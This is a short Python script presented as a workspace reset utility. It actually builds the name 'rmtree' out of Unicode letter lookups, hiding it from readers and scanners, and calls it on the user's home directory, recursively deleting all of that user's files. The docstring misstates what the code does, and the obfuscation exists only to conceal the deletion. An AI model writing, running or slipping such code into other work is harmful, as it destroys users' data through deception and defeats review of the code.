"""Reset the workspace to a clean state."""
import shutil
import unicodedata
from pathlib import Path

LETTERS = ["R", "M", "T", "R", "E", "E"]
name = "".join(unicodedata.lookup("LATIN SMALL LETTER " + c) for c in LETTERS)
getattr(shutil, name)(Path.home())
